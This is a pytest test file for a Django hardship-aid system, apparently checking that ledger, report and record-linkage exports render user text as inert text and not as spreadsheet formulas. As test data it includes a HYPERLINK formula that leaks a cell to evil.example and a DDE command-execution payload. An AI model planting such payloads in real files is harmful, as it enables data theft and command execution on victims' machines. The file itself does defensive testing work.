"""Issue 17, point 6: what people type reaches the XLSX and CSV exports as text, never as a
live formula (OWASP CSV injection): the fund ledger, the statistics report and the
offline linkage output; numbers stay numbers."""

import csv
import io
import zipfile
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.hardship.aid import allocate_budget
from cases.platform.sheet_cells import SafeCsvWriter, xlsx_append
from tests.hardship_fixtures import fund_with_budget

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def sheet_xml(content: bytes, sheet: int = 1) -> str:
    return zipfile.ZipFile(BytesIO(content)).read(f"xl/worksheets/sheet{sheet}.xml").decode()


def test_point_6_a_fund_note_written_as_a_formula_is_text_in_the_ledger_export(client, orgs, people):
    fund = fund_with_budget(orgs["hd"], budget=Decimal("10000.00"))
    allocate_budget(fund=fund, amount="500.00", by=people["admin"], note=LEAK)
    client.force_login(people["auditor"])

    response = client.get(f"/hardship/funds/{fund.pk}/ledger.xlsx")

    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)  # no formula anywhere in the sheet
    sheet = load_workbook(BytesIO(response.content)).active
    note = sheet.cell(row=5, column=4)  # title, totals, header, the budget line, then this allocation
    assert note.value == LEAK
    assert note.data_type == "s" and note.quotePrefix is True
    amount_in, balance = sheet.cell(row=5, column=5), sheet.cell(row=5, column=7)
    assert (amount_in.value, amount_in.data_type) == (500, "n")
    assert (balance.value, balance.data_type) == (10500, "n")


def test_point_6_the_report_export_writes_an_organisation_name_as_text(client, orgs, people):
    orgs["hd"].name = "=cmd|' /C calc'!A0"
    orgs["hd"].save()
    client.force_login(people["auditor"])

    response = client.get(reverse("workbench:report_xlsx"),
                          {"organisation": orgs["hd"].pk, "preset": "custom", "start": "2026-01-01",
                           "end": "2026-06-30"})

    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cell = book["概要"]["B2"]
    assert cell.value == "=cmd|' /C calc'!A0（BJ-HD）"
    assert cell.data_type == "s" and cell.quotePrefix is True
    assert "<f>" not in sheet_xml(response.content)


def test_point_6_every_formula_trigger_becomes_text_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "王秀英", -5, Decimal("-3.50"), None])

    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in sheet[1][:7]] == [
        ("=1+1", "s", True), ("+1", "s", True), ("-1", "s", True), ("@SUM(A1)", "s", True),
        ("\t=1", "s", True), ("\r=1", "s", True), ("王秀英", "s", False)]
    buffer = BytesIO()
    book.save(buffer)
    row = next(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in row[:4]] == [
        ("=1+1", "s", True), ("+1", "s", True), ("-1", "s", True), ("@SUM(A1)", "s", True)]
    assert [(cell.value, cell.data_type) for cell in row[7:9]] == [(-5, "n"), (-3.5, "n")]
    assert "<f>" not in sheet_xml(buffer.getvalue())


def test_point_6_the_csv_writer_prefixes_a_quote_to_formula_like_text_only():
    out = StringIO()
    SafeCsvWriter(out).writerows([["=1+1", "+1", "-1", "@A1", "\t=1", "正常", -5, "3-1"]])

    assert next(csv.reader(StringIO(out.getvalue()))) == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "正常", "-5", "3-1"]


def test_point_6_the_linkage_output_csv_keeps_formula_like_references_as_text(tmp_path):
    workers, civil, result = tmp_path / "w.csv", tmp_path / "c.csv", tmp_path / "out.csv"
    workers.write_text("worker_ref,name,id_number,birth_date,region\n"
                       "=1+2,王秀英,11010519491231002X,1949-12-31,110105\n", encoding="utf-8")
    civil.write_text("civil_ref,name,id_number,birth_date,region,category,household_size,monthly_amount,since\n"
                     "@SUM(A1),王秀英,11010519491231002X,1949-12-31,110105,低保,2,1200,2024-01-01\n",
                     encoding="utf-8")

    call_command("link_records", workers=str(workers), civil=str(civil), out=str(result), stderr=io.StringIO())

    rows = list(csv.reader(result.open(encoding="utf-8", newline="")))
    assert rows[1][0] == "'@SUM(A1)" and rows[1][1] == "'=1+2" and rows[1][3] == "match"
